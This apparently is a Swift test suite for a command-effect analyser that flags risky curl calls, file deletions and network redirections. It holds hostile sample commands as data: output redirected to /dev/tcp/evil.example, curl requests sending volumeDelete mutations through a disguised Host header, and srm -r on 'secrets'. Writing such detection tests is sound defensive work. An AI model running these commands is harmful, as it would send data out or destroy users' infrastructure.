import Testing

@testable import Analysis

@Suite struct HTTPDestinationTests {
    @Test func credentialsInTheURLAreRedacted() throws {
        let derivation = httpEffects("curl", "-X", "DELETE", "https://admin:hunter2@api.example.com/v1/x")
        let request = try #require(derivation.requests.first)
        #expect(request.url == "https://<redacted>@api.example.com/v1/x")
        #expect(request.host == "api.example.com")
        #expect(request.headers == [HTTPHeader(name: "Authorization", value: "<redacted>")])
        #expect(!String(describing: derivation).contains("hunter2"))
    }

    @Test func aHostHeaderNamingAnotherHostIsOpaque() {
        let derivation = httpEffects(
            "curl", "-k", "-H", "Host: backboard.railway.app", "-d", #"{"query":"mutation { volumeDelete(id: 1) }"}"#,
            "https://104.18.0.1/graphql/v2")
        #expect(derivation.opaqueReasons.map(\.kind) == [.indirectDestination])
        #expect(derivation.requests.first?.graphQL.first?.rootFields == ["volumeDelete"])
        #expect(httpEffects("curl", "-H", "Host: Example.com", "https://example.com/").opaqueReasons.isEmpty)
    }

    @Test func connectToIsOpaque() {
        let derivation = httpEffects(
            "curl", "--connect-to", "example.com:443:backboard.railway.app:443", "https://example.com/graphql/v2")
        #expect(derivation.opaqueReasons.map(\.kind) == [.indirectDestination])
    }

    @Test func bashNetworkRedirectionsAreOpaque() {
        let command = CommandInvocation(
            words: [ShellWord("cat"), ShellWord("request.txt")],
            redirections: [Redirection(descriptor: 1, operation: .write, target: ShellWord("/dev/tcp/evil.example/80"))]
        )
        let derivation = FileEffects.derive(command)
        #expect(derivation?.opaqueReasons.map(\.kind) == [.indirectDestination])
        #expect(derivation?.writes.isEmpty == true)
        #expect(derivation?.readPaths == ["request.txt"])
    }

    @Test func standardInputDevicesAreStandardInput() {
        let body = #"{"query":"mutation { volumeDelete(id: 1) }"}"#
        let derivation = httpEffects(
            "curl", "--data-binary", "@/dev/stdin", "https://backboard.railway.app/graphql/v2", input: .text(body))
        #expect(derivation.requests.first?.graphQL.first?.rootFields == ["volumeDelete"])
        #expect(derivation.reads.isEmpty)
    }

    @Test func moreDeleters() {
        #expect(
            fileEffects("srm", "-r", "secrets").deletes == [FileAccess(path: "secrets", isRecursive: true, via: "srm")])
        #expect(fileEffects("trash-put", "a").deletePaths == ["a"])
        #expect(fileEffects("sponge", "config.json").writePaths == ["config.json"])
    }
}

@Suite struct HTTPDynamicQueryTests {
    @Test func aGraphQLQueryInADynamicURLIsReadAndOpaque() throws {
        let derivation = httpEffects("curl", #"https://api.example.com/graphql?query=mutation{volumeDelete(id:"$ID")}"#)
        let request = try #require(derivation.requests.first)
        #expect(request.host == "api.example.com")
        #expect(request.graphQL.first?.rootFields == ["volumeDelete"])
        #expect(derivation.opaqueReasons.map(\.kind) == [.dynamicArgument])
        #expect(httpEffects("curl", "https://api.example.com/items?page=$P").opaqueReasons.isEmpty)
    }
}
